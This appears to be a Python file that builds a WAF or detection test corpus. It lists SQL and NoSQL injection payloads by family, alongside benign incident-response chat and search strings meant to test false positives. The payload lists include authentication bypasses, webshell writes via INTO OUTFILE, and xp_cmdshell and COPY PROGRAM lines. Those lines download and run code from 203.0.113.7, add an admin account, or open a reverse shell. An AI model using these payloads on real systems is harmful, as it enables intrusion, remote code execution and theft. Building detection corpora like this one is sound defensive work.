    ("uname=admin'+or+'1'='1'--+&passwd=1&Submit=Login", *KV),
    ("login=%27%20or%201%3D1--%20&password=x&remember=on", *KV),
    # the values as typed into the login box
    "admin' or '1'='1'#",
    "' OR 1=1 LIMIT 1#",
    "admin' OR 1=1 LIMIT 1-- -",
    "') OR ('1'='1'-- -",
    "' UNION SELECT 1,'admin','5f4dcc3b5aa765d61d8327deb882cf99'-- -",
    "admin' AND 1=0 UNION ALL SELECT 'admin','81dc9bdb52d04dc20036dbd8313ed055'-- -",
    "'=''or'",
    'admin" or "1"="1"#',
    "admin' or 1=1 or '",
    "' OR EXISTS(SELECT * FROM users WHERE username='admin')-- -",
    "' OR 1=1 AND role='admin'-- -",
    "' or 'unusual'='unusual",
    # SQL Server intranet login
    "' OR 1=1; --",
    "sa'--",
    # Oracle portal login
    "' OR '1'='1' --",
    # PostgreSQL SaaS login
    "' OR true--",
    # JSON login API (MySQL)
    ('{"username":"admin\' -- ","password":"x"}', *JB),
    ('{"email":"\' or 1=1 limit 1#","password":"irrelevant"}', *JB),
    # FortiWeb wave: the bearer token went into a MySQL query (Authorization header)
    ("Bearer AAAAAA'or'1'='1", *AUTH_HDR),
    ("Bearer ';SELECT 0x3c3f70687020706870696e666f28293b3f3e INTO OUTFILE '../../lib/python3.10/x.pth'#",
     *AUTH_HDR),
    # once-encoded copy of the login value (double-decoding app)
    "admin%27%20or%20%271%27%3D%271%27%23",
    "admin'/**/or/**/1=1#",
]

# nosql-injection: MongoDB operator and $where injection against a Node.js/Express API
NOSQL: list[Entry] = [
    # Express with qs: bracket operators in the login form (raw pairs as logged)
    ("username[$ne]=x&password[$ne]=x", *KV),
    ("username=admin&password[$gt]=", *KV),
    ("user[$regex]=^adm&pass[$ne]=1", *KV),
    ("username[$exists]=true&password[$exists]=true", *KV),
    ("login[$in][]=admin&login[$in][]=root&password[$ne]=", *KV),
    ("username=admin&password[$regex]=^a.*", *KV),
    ("email[$ne]=null&password[$ne]=null&_csrf=x", *KV),
    ("user[$gt]=&pass[$gt]=", *Q),
    ("username[%24ne]=x&password[%24ne]=x", *Q),
    # JSON login documents (MongoDB)
    ('{"username":{"$ne":null},"password":{"$ne":null}}', *JB),
    ('{"username":"admin","password":{"$gt":""}}', *JB),
    ('{"username":{"$regex":"^a"},"password":{"$ne":"1"}}', *JB),
    ('{"email":{"$in":["admin@example.com","root@example.com"]},"password":{"$nin":[""]}}', *JB),
    ('{"$or":[{"username":"admin"},{"username":{"$ne":""}}],"password":{"$ne":0}}', *JB),
    ('{"username":"admin","password":{"$regex":"^p","$options":"i"}}', *JB),
    ('{"$where":"sleep(5000)||true"}', *JB),
    ('{"username":{"$where":"this.password.length>0"}}', *JB),
    ('{"filter":{"$where":"function(){return this.role==\'admin\'}"}}', *JB),
    ('[{"$lookup":{"from":"users","localField":"owner","foreignField":"_id","as":"u"}},{"$unwind":"$u"}]', *JB),
    ('{"token":{"$exists":true},"expires":{"$gt":0}}', *JB),
    # $where JavaScript injection through a string the app pastes into a $where clause
    "'; return true; var x='",
    "'||'1'=='1",
    "' || this.password.match(/.*/) || '",
    "';sleep(5000);'",
    "1; while(true){}",
    "' && this.role=='admin' && ''=='",
    # a JSON-encoded operator in a string field the app JSON.parses (once-encoded log copy too)
    '{"$gt":""}',
    "%7B%22%24ne%22%3A%22%22%7D",
]

# hex/char encoding: quoteless payloads and encoded statements, from the SQL Server worm era to today's WAF bypasses
ENCODING: list[Entry] = [
    # MySQL: hex strings where the quote was escaped
    "' UNION SELECT 1,load_file(0x2f6574632f706173737764)-- -",
    "1 OR username=0x61646d696e",
    "1 AND user()=CHAR(114,111,111,116,64,108,111,99,97,108,104,111,115,116)",
    "1 UNION SELECT CHAR(60,63,112,104,112,32,101,118,97,108,40,36,95,80,79,83,84,91,49,93,41,59,63,62),2 "
    "INTO OUTFILE '/var/www/html/c.php'",
    "-1 UNION SELECT 1,load_file(0x2f7661722f7777772f68746d6c2f77702d636f6e6669672e706870)-- -",
    "1 AND UNHEX('726f6f74')=LEFT(user(),4)",
    "1 UNION SELECT FROM_BASE64('PD9waHAgcGhwaW5mbygpOz8+'),2 INTO OUTFILE '/var/www/html/i.php'-- -",
    "1 AND SUBSTR(user(),1,4)=_binary 0x726f6f74",
    # SQL Server: the Asprox / mass-defacement worm wave on ASP shops (the hex is the UPDATE that appends a script)
    "1;DECLARE @S VARCHAR(4000);SET @S=CAST(0x5550444154452070726f647563747320534554206465736372697074696f6e3d"
    "6465736372697074696f6e2b273c736372697074207372633d2f2f63646e2d737461742e6578616d706c652f622e6a733e3c2f"
    "7363726970743e27 AS VARCHAR(4000));EXEC(@S);--",
    "';DECLARE @c NVARCHAR(100)=CHAR(120)+CHAR(112)+CHAR(95)+CHAR(99)+CHAR(109)+CHAR(100)+CHAR(115)+CHAR(104)"
    "+CHAR(101)+CHAR(108)+CHAR(108);EXEC @c 'whoami';--",
    "' OR name=CHAR(97)+CHAR(100)+CHAR(109)+CHAR(105)+CHAR(110)--",
    "'+CHAR(39)+'",
    "1;DECLARE @q VARCHAR(99)=0x73656c65637420404076657273696f6e;EXEC(@q)--",
    # PostgreSQL
    "' UNION SELECT CHR(112)||CHR(103),NULL--",
    "' OR username=$$admin$$--",
    "';DO $$BEGIN EXECUTE convert_from(decode('53454c4543542070675f736c656570283529','hex'),'utf8');END$$;--",
    "' OR username=convert_from('\\x61646d696e','utf8')--",
    # Oracle
    "' OR username=CHR(65)||CHR(68)||CHR(77)||CHR(73)||CHR(78)--",
    "' UNION SELECT utl_raw.cast_to_varchar2(hextoraw('61646d696e')),NULL FROM dual--",
    # SQLite
    "' OR name=char(97,100,109,105,110)--",
    "' OR name=X'61646d696e'--",
    # encodings the attacker tried after the plain quote was blocked (JSON \\u escape, IIS %u, full-width quote)
    ('{"id":"1\\u0027 or 1=1-- -"}', *JB),
    ('{"q":"x\\u0027 union select user_login,user_pass from wp_users\\u0023"}', *JB),
    ("id=1%u0027%20or%201=1--", *Q),
    ("id=1%c0%a7%20or%201=1--%20-", *Q),
    "1\uff07 or 1=1--",
    ("id=%2527%2520OR%25201%253D1--%2520-", *Q),
    "1 AND 0x61646d696e=(SELECT username FROM users LIMIT 1)",
]

# stored-procedure/xp_cmdshell: the second stage, commands and droppers run through the database
PROC: list[Entry] = [
    # SQL Server: FortiClient EMS and Ivanti EPM waves, then generic ASP.NET shops
    "'; EXEC sp_configure 'show advanced options',1; RECONFIGURE; EXEC sp_configure 'xp_cmdshell',1; RECONFIGURE;--",
    "';EXEC master..xp_cmdshell 'whoami';--",
    "';exec xp_cmdshell 'powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString("
    "''http://203.0.113.7/a.ps1'')\"';--",
    "'; EXEC xp_cmdshell 'certutil -urlcache -split -f http://203.0.113.7/svc.exe C:\\Windows\\Temp\\svc.exe';--",
    "';EXEC xp_cmdshell 'net user support P@ssw0rd123 /add && net localgroup administrators support /add';--",
    "';exec xp_cmdshell 'bitsadmin /transfer j http://203.0.113.7/b.exe %TEMP%\\b.exe';--",
    "1;EXEC master.dbo.xp_cmdshell 'type C:\\inetpub\\wwwroot\\web.config'--",
    "';EXEC xp_cmdshell 'powershell -enc SQBFAFgAKABpAHcAcgAgAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA3ACkA'--",
    "';EXEC('xp_cmdshell ''ping -n 1 x.oast.example''');--",
    "'; DECLARE @o INT; EXEC sp_oacreate 'wscript.shell', @o OUT; EXEC sp_oamethod @o, 'run', NULL, "
    "'cmd /c whoami > C:\\inetpub\\wwwroot\\w.txt';--",
    "';EXEC xp_regread 'HKEY_LOCAL_MACHINE','SYSTEM\\CurrentControlSet\\Services\\MSSQLSERVER','ObjectName';--",
    "';EXEC msdb.dbo.sp_add_job @job_name='upd';EXEC msdb.dbo.sp_add_jobstep @job_name='upd',@step_name='s',"
    "@subsystem='CMDEXEC',@command='powershell -enc SQBFAFgA';EXEC msdb.dbo.sp_add_jobserver @job_name='upd';--",
    "';EXEC sp_addextendedproc 'xp_cmdshell','xplog70.dll';--",
    "';EXEC sp_execute_external_script @language=N'Python',@script=N'import os;os.system(\"whoami\")';--",
    "';EXEC('select @@version') AT [LINKED01];--",
    "1%3BEXEC%20xp_cmdshell%20%27whoami%27--",
    # PostgreSQL: COPY ... PROGRAM and a libc function
    "';DROP TABLE IF EXISTS cmd_exec;CREATE TABLE cmd_exec(cmd_output text);COPY cmd_exec FROM PROGRAM 'id';"
    "SELECT * FROM cmd_exec;--",
    "';COPY (SELECT 1) TO PROGRAM 'bash -c \"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\"';--",
    "';COPY t FROM PROGRAM 'curl -s http://203.0.113.7/k.sh|sh';--",
    "';CREATE OR REPLACE FUNCTION system(cstring) RETURNS int AS '/lib/x86_64-linux-gnu/libc.so.6','system' "
    "LANGUAGE C STRICT;SELECT system('id');--",
    # MySQL UDF shell
    "'; SELECT sys_exec('curl http://203.0.113.7/k|sh');-- -",
    "';CREATE FUNCTION sys_eval RETURNS STRING SONAME 'lib_mysqludf_sys.so';-- -",
    "' UNION SELECT sys_eval('id'),2-- -",
    # Oracle
    "' || DBMS_JAVA_TEST.FUNCALL('oracle/aurora/util/Wrapper','main','/bin/bash','-c','id') || '",
    "';BEGIN DBMS_SCHEDULER.CREATE_JOB(job_name=>'J1',job_type=>'EXECUTABLE',job_action=>'/bin/sh',"
    "number_of_arguments=>0,enabled=>TRUE);END;--",
    # SQLite with extension loading on
    "'; SELECT load_extension('/tmp/evil.so');--",
    # the FCTUID field of the EMS wave, replayed as a form body (SQL Server)
    ("FCTUID=1';EXEC+xp_cmdshell+'powershell+-c+iwr+http://203.0.113.7/r.msi+-o+C:\\Windows\\Temp\\r.msi';--",
     *KV),
    "'; eXeC MaStEr..Xp_CmDsHeLl 'hostname';--",
]

# having/group-by/order-by probing: column counting and the injectable sort parameter
ORDER: list[Entry] = [
    # MySQL: counting columns before the UNION
    "1 ORDER BY 1-- -",
    "1' ORDER BY 10-- -",
    "1' ORDER BY 11#",
    "' GROUP BY 1,2,3-- -",
    "1%20ORDER%20BY%2020--%20-",
    ("id=1'+oRdEr+bY+5--+-&_=1718908802", *Q),
    # SQL Server: HAVING reveals the column names one by one
    "' HAVING 1=1--",
    "' GROUP BY users.username HAVING 1=1--",
    "' GROUP BY users.id,users.username HAVING 1=1--",
    "1 HAVING 1=1",
    # MySQL: the sort/orderby parameter of a list page (no quotes around it)
    "(CASE WHEN (SELECT SUBSTRING(password,1,1) FROM users WHERE id=1)='a' THEN id ELSE name END)",
    "IF(1=1,id,name)",
    "id desc,(select*from(select(sleep(5)))a)",
    "1 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,version())),1)",
    "1 ORDER BY IF(ASCII(SUBSTR(user(),1,1))>100,1,(SELECT 1 UNION SELECT 2))",
    "1 GROUP BY CONCAT(version(),FLOOR(RAND(0)*2)) HAVING MIN(0)",
    "-1' GROUP BY CONCAT_WS(0x3a,version(),floor(rand(0)*2)) HAVING min(0) OR 1-- -",
    "' GROUP BY password WITH ROLLUP LIMIT 1 OFFSET 1-- -",
    ("orderby=id&order=ASC,(SELECT(1)FROM(SELECT(SLEEP(5)))a)&_=1718909115", *Q),
    ("order=desc&orderby=(select+case+when+(1=1)+then+post_date+else+post_title+end)", *Q),
    # PostgreSQL / SQL Server sort sinks
    "1 ORDER BY (SELECT CASE WHEN (1=1) THEN 1 ELSE 1/0 END)",
    "(select 1 from pg_sleep(5))",
    "name,(SELECT CASE WHEN current_setting('is_superuser')='on' THEN 1 ELSE 1/0 END)",
    "1,(select top 1 case when (system_user='sa') then 1 else 1/0 end)--",
    # Oracle sort sink
    "(CASE WHEN (SELECT COUNT(*) FROM dba_users)>0 THEN 1 ELSE 1/0 END)",
    # SQLite sort sink
    "(CASE WHEN (SELECT substr(sql,1,1) FROM sqlite_master LIMIT 1)='C' THEN name ELSE id END)",
    "1 GrOuP By 1,2 HaViNg 1=1-- -",
    "1 order by 3 desc, 1 asc-- -",
]

# like/between/in operators: comparisons used after '=' and '>' were blocked
OPERATORS: list[Entry] = [
    # MySQL
    "' OR username LIKE 'adm%'-- -",
    "' OR 1 LIKE 1-- -",
    "1' AND password LIKE 'a%'-- -",
    "1 AND (SELECT user()) LIKE 0x726f6f7425",
    "' or 1 between 0 and 2-- -",
    "1' AND ASCII(SUBSTRING(user(),1,1)) BETWEEN 114 AND 114-- -",
    "' OR 'a' IN ('a')-- -",
    "1 AND 1 IN (SELECT 1)",
    "' AND (SELECT COUNT(*) FROM users WHERE password LIKE '$2y$%')>0-- -",
    "' or username rlike '^ad'-- -",
    "' OR username REGEXP '^[a-d]'-- -",
    "1 AND 'a' NOT IN ('b')",
    "' OR 2 NOT BETWEEN 3 AND 4-- -",
    "1 AND MID(version(),1,1) IN ('5','8')",
    "' OR name SOUNDS LIKE 'admen'-- -",
    "x' or email like '%@corp.example'-- -",
    "' AND password LIKE BINARY 'A%'-- -",
    "' AND LEFT(password,1) BETWEEN 'a' AND 'm'-- -",
    "1 OR 1 IN (1,2,3)",
    # PostgreSQL
    "' OR username SIMILAR TO 'ad%'--",
    "' OR username ~ '^ad'--",
    "' or password ilike '%pass%'--",
    # SQL Server
    "1 AND ASCII(SUBSTRING(DB_NAME(),1,1)) BETWEEN 97 AND 122--",
    "' OR name LIKE 'sa[_]%'--",
    # Oracle / SQLite
    "' OR REGEXP_LIKE(username,'^AD')--",
    "' OR username GLOB 'ad*'--",
    # log copies
    "%27%20OR%20username%20LIKE%20%27a%25%27--%20-",
    ("q=x'+oR+1+bEtWeEn+1+aNd+2--+-&_=1718910020", *Q),
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("sqli", "libinjection-sqli", LIBINJECTION),
    ("sqli", "sql-tautology-boolean", TAUTOLOGY),
    ("sqli", "sql-comment-sequence", COMMENT),
    ("sqli", "union-select", UNION),
    ("sqli", "stacked-queries", STACKED),
    ("sqli", "time-based-blind", TIME),
    ("sqli", "error-based", ERROR),
    ("sqli", "out-of-band", OOB),
    ("sqli", "information-schema-probing", CATALOG),
    ("sqli", "mysql-comment-obfuscation", MYCOMMENT),
    ("sqli", "function-based-probing", FUNCTION),
    ("sqli", "sql-authentication-bypass", AUTH),
    ("sqli", "nosql-injection", NOSQL),
    ("sqli", "hex-char-encoding", ENCODING),
    ("sqli", "stored-procedure-xp-cmdshell", PROC),
    ("sqli", "having-group-order-by-probing", ORDER),
    ("sqli", "like-between-in-operators", OPERATORS),
]


# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    # every fixed `name=value` entry is a query string or form body as logged, sent unquoted
    raw_subs = frozenset(sub for _, sub, _ in FAMILIES)
    raw_places = ("query", "form", "rs-query", "rs-raw-body", "param-name", "rs-param-name")
    # a logged line keeps its own percent-encoding and '+' spaces
    kv_safe = "=&[]._-:/'*$!(),;{}~@%+^\\"
    names = ["id", "q", "search", "username", "password", "sort", "orderby", "cat", "email", "filter", "s"]
    rs_cycle = ("rs-query", "rs-form", "rs-json", "rs-xml", "rs-raw-body", "rs-header:User-Agent",
                "rs-header:Referer", "rs-header:X-Test-Header", "rs-cookie", "rs-param-name",
                "rs-header:X-Forwarded-For")
    unique = True
    path_forbids = "/?#"
    raw_body_forbids = "&"
    raw_body_pair = True
    xml_controls = "\n\t"


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently by an incident-response team and its SREs (Slack during an outage or an
# intrusion, on-call bios, rota searches, status-page and post-mortem links, admin notes, report file names)
CHAT = [
    # the incident channel
    "INC-4821 opened 02:14 UTC, sev2, IC is Marta. Please keep this channel for the timeline only",
    "timeline: 02:14 first 500s from the shop API, 02:31 WAF alerts spike, 02:40 we pulled the node from the LB",
    "we rotated the DB credentials at 03:40 UTC and redeployed every service that uses them",
    "keys rotated: AWS access keys for ci-deploy and the Stripe restricted key. Old ones disabled, not deleted yet",
    "blocked 203.0.113.0/24 and 198.51.100.64/26 at the edge, will revisit after 72h",
    "the attacker's IPs rotate through a residential proxy pool, blocking by IP is whack-a-mole",
    "access log excerpt is in the ticket, don't paste raw request lines here please (they trip the DLP bot)",
    "confirmed: the select on the orders table came from the reporting replica, not prod",
    "slow query log shows nothing unusual before 02:00, then a burst of long-running selects",
    "who has access to the bastion? I need someone to grab /var/log/nginx/access.log.1 from web-03",
    "forensics image of web-03 is on the evidence bucket, sha256 in INC-4821",
    "legal asked whether customer emails were in scope. Working on it, the users table has emails and hashed passwords",
    "passwords are bcrypt with cost 12, so less bad, but we'll force a reset anyway",
    "we are dropping the old admin panel entirely, it's been on the decommission list since Q1",
    "can someone from the DBA team confirm the app user has no FILE privilege on MySQL?",
    "confirmed the app role can't run xp_cmdshell on the SQL Server box, sp_configure shows it disabled",
    "the union of both log sources gives us 1,842 suspicious requests, de-duplicating now",
    "order of events is still fuzzy between 02:31 and 02:40, can you check the LB logs?",
    "group by source IP: 80% of the traffic came from 6 addresses",
    "the WAF blocked 97% of it, the rest hit a 404 route, no 200s on the vulnerable endpoint after 02:45",
    "status page updated: 'Investigating elevated error rates on checkout'",
    "comms draft for customers is in the doc, please review before 10:00",
    "post-mortem draft: root cause was string concatenation in the legacy search endpoint, fix: parameterized queries",
    "action item: add a lint rule that flags f-strings passed to cursor.execute",
    "action item: move the reporting job off the primary, it holds locks for 40 seconds",
    "the sleep in the healthcheck script was 5s, that's why the pod looked dead, unrelated to the incident",
    "pg_stat_activity showed two idle-in-transaction sessions from the batch worker, killed them",
    "vacuum on the events table finished, replication lag back to normal",
    "reminder: the on-call handover is at 09:00, please write down where you stopped",
    "I'm on the rota this week, ping me for anything in #inc-4821",
    "handover notes: keys rotated, IPs blocked, web-03 quarantined, waiting on the vendor patch",
    "the vendor published the patch for the plugin, version 3.4.2, rolling out to staging now",
    "staging looks good, promoting to prod at 14:00 unless someone objects",
    "tabletop exercise next Tuesday: ransomware scenario, bring your runbooks",
    "the runbook for 'credential leak' needs a step for rotating the Slack bot token",
    "alert fatigue is real: 340 pages last week, 12 actionable",
    "we should page on error rate per route, not global error rate",
    "the WAF rule tuning ticket is SEC-1193, please don't disable rules without a ticket",
    "false positive report from support: a customer named O'Connor couldn't save her profile, fixed last month",
    "between 02:00 and 03:00 the CPU on db-primary hit 95%, mostly the reporting job",
    "like I said in standup, the leaked key was never used, CloudTrail shows no calls from unknown IPs",
    "in the end only one host was touched, web-03, and it's being rebuilt from the golden image",
    "hex dump of the suspicious file is in the evidence folder, it's just a corrupted thumbnail",
    "the concat of both CSV exports is on the shared drive as incident-4821-combined.csv",
    "xp, the old Windows box in the lab, is finally gone",
    "information security weekly: phishing test results, 4% click rate, down from 9%",
    "schema migration for the audit table is merged, it adds actor_ip and user_agent columns",
    "having the audit table earlier would have saved us two hours today",
    "benchmark of the new WAF config: p99 latency +0.4 ms, acceptable",
    "the mongo cluster was not affected, different network segment and no public endpoint",
    "where do we keep the IR retainer contact? found it, it's pinned in #security",
    "null results from the threat intel lookup on those IPs, nothing known",
    "true positive rate on the new detection is looking good after a week",
    "exec summary for the CISO: contained within 26 minutes, no evidence of exfiltration, root cause fixed",
    "lessons learned meeting is Thursday 15:00, room Orion",
    "the 1=1 in the ticket title was someone's joke, please rename it",
    "drop me a DM if you want the raw pcap, it's too big for the ticket",
    "don't forget to revoke the temporary break-glass account we created at 03:10",
    "the load balancer health checks failed because we removed the node, expected",
    "deploy freeze lifted, thanks everyone for the calm response last night",
    # on-call bios
    "SRE, on-call for payments and checkout. Likes postgres, dislikes pagers at 3am",
    "Incident commander on the security rota. Ex-SOC analyst, writes post-mortems nobody reads",
    "DBA: MySQL and PostgreSQL, query plans, backups you can actually restore",
    "Security engineer, detection and response. Runbooks, Sigma rules, too much coffee",
    "Platform on-call. Kubernetes, Terraform, nginx. Ask me about the WAF before you disable it",
    "Support lead. If a customer reports they can't log in, I'm the one who pings #inc",
    "Forensics and IR. Disk images, timelines, chain of custody",
    "Backend engineer (Go, Python). On the rota every fourth week",
    "Mongo and Redis person, also owns the search service",
    "Network engineer: firewalls, BGP, blocking IP ranges since 2009",
]

SEARCHES = [
    "marta", "on-call", "oncall sre", "incident commander", "dba", "security rota", "ir team",
    "forensics", "postgres", "mysql", "mongo", "o'connor", "O'Brien", "d'angelo", "support lead",
    "network", "sre payments", "platform", "who is on call", "backend rota", "select team",
    "union square office", "order desk", "group leads", "having", "between shifts", "like", "in office",
    "sleep lab", "benchmark", "hex", "char", "null", "true", "exec", "where", "drop-in",
    "information security", "schema owners", "procedure", "xp", "admin", "root", "1", "inc-4821",
]

URLS = [
    "https://status.example.com/incidents/4821",
    "https://status.example.com/incidents/4821#update-3",
    "https://wiki.example.com/postmortems/2024-06-12-checkout-sql-injection",
    "https://wiki.example.com/runbooks/credential-rotation",
    "https://wiki.example.com/runbooks/block-ip-ranges-at-the-edge",
    "https://jira.example.com/browse/INC-4821",
    "https://jira.example.com/browse/SEC-1193",
    "https://grafana.example.com/d/edge-waf/waf-overview?orgId=1&from=now-24h&to=now",
    "https://grafana.example.com/d/db/postgres?var-instance=db-primary&from=1718150400000&to=1718157600000",
    "https://pagerduty.example.com/incidents/Q2X8ZP1LK4",
    "https://cheatsheetseries.owasp.org/cheatsheets/Query_Parameterization_Cheat_Sheet.html",
    "https://owasp.org/www-community/attacks/SQL_Injection",
    "https://dev.mysql.com/doc/refman/8.0/en/privileges-provided.html#priv_file",
    "https://www.postgresql.org/docs/current/monitoring-stats.html#MONITORING-PG-STAT-ACTIVITY-VIEW",
    "https://learn.microsoft.com/en-us/sql/database-engine/configure-windows/xp-cmdshell-server-configuration-option",
    "https://www.mongodb.com/docs/manual/core/security-mongodb-configuration/",
    "https://www.cisa.gov/known-exploited-vulnerabilities-catalog",
    "https://sre.google/sre-book/postmortem-culture/",
    "https://response.pagerduty.com/during/during_an_incident/",
    "https://docs.example.com/admin/users/search?q=on-call&sort=name",
]

PROSE = [
    "on-call rota June",
    "incident response team",
    "INC-4821 checkout outage",
    "post-mortem reviewers",
    "blocked IP ranges 203.0.113.0/24",
    "users who logged in between 02:00 and 03:00",
    "accounts created after the incident",
    "admins with MFA disabled",
    "select committee for the IR retainer",
    "group: security",
    "order by last login",
    "users like 'marta'",
    "O'Connor, Aoife",
    "keys rotated 2024-06-12",
    "break-glass account owners",
    "DBA team -- temporary access",
    "sleep schedule for on-call (follow-the-sun)",
    "having issues with MFA",
    "union reps list",
    "drop-off for the forensic laptop",
    "exec team briefing list",
    "information security awareness training",
    "schema owners for the audit table",
    "stored procedure owners (reporting DB)",
    "where is the runbook for key rotation",
    "null route requests",
    "true-up of licenses after the rebuild",
    "hex editor users",
    "char limit on status updates",
    "benchmark team",
    "in-person war room attendees",
    "status page subscribers",
    "WAF false positive reporters",
    "tabletop exercise participants",
    "lessons learned 15:00 Orion",
]

PROFILES = [
    ("Marta Oliveira (IC)", "Rua do Ouro 40, Lisbon"),
    ("Aoife O'Connor", "Baggot St 12, Dublin"),
    ("Dev Patel - SRE", "Koramangala 5th Block, Bengaluru"),
    ("Lena Fischer, DBA", "Torstraße 101, Berlin"),
    ("Sam D'Amico", "Via Roma 8, Turin"),
    ("Incident Desk", "Floor 3, Union Square, San Francisco"),
    ("Nightwatch Security Ltd", "Harbour Rd 9, Plymouth"),
    ("Orion War Room", "Building C, Campus North"),
    ("Select Forensics", "Ring Road 1, Manchester"),
    ("Between Shifts Cafe", "Old Town 5, Tallinn"),
    ("Null Pointer Consulting", "Canal 14, Amsterdam"),
    ("Benchmark Labs", "Tech Park 2, Eindhoven"),
    ("Having Fun Events", "Market Sq 4, Kraków"),
    ("Group Order Catering", "Order Lane 7, Leeds"),
    ("Like Minds IR", "Queen St 21, Auckland"),
]

UPLOAD_NAMES = [
    "INC-4821-timeline.xlsx", "INC-4821 post-mortem (draft).docx", "web-03-access-log-redacted.txt",
    "waf-alerts-2024-06-12.csv", "blocked-ip-ranges.txt", "oncall-rota-june.ics", "incident-4821-combined.csv",
    "key-rotation-checklist.pdf", "evidence-manifest-sha256.txt", "status-page-update-3.md",
    "db-primary-slow-query-summary.pdf", "pg_stat_activity_0215.csv", "tabletop-ransomware-scenario.pptx",
    "lessons-learned-4821.pdf", "O'Connor-profile-fix.png", "runbook-credential-leak-v2.md",
    "grafana-waf-overview.png", "ir-retainer-contract.pdf", "customer-comms-draft.docx", "schema_audit_v2.sql",
]

BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.5 Safari/605.1.15"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/126.0.0.0 Safari/537.36"),
    ("User-Agent", "PagerDuty-Webhook/V3.0"),
    ("User-Agent", "Grafana/10.4.2"),
    ("User-Agent", "curl/8.7.1"),
    ("User-Agent", "Datadog Agent/7.54.0"),
    ("Referer", "https://status.example.com/incidents/4821"),
    ("Referer", "https://jira.example.com/browse/INC-4821?focusedCommentId=10421"),
    ("Referer", "https://grafana.example.com/d/edge-waf/waf-overview?orgId=1&from=now-6h&to=now"),
    ("Referer", "https://wiki.example.com/postmortems/2024-06-12-checkout-sql-injection"),
    ("Referer", "https://app.example.com/admin/users?sort=last_login&order=desc"),
    ("Referer", "https://www.google.com/search?q=rotate+mysql+user+password+without+downtime"),
    ("X-Api-Version", "2024-06-01"),
    ("X-Request-Id", "inc-4821-replay-0007"),
    ("Accept-Language", "en-IE,en;q=0.9,pt;q=0.6"),
    ("Cookie", "session=abc123; sort=last_login; order=desc"),
    ("Cookie", "session=abc123; last_search=on-call%20rota; tz=Europe%2FDublin"),
    ("Cookie", "session=abc123; filter=team%3Asecurity; page_size=100"),
    ("X-Forwarded-For", "198.51.100.23"),
    ("If-None-Match", "W/\"9c1e-18f0a2b4\""),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
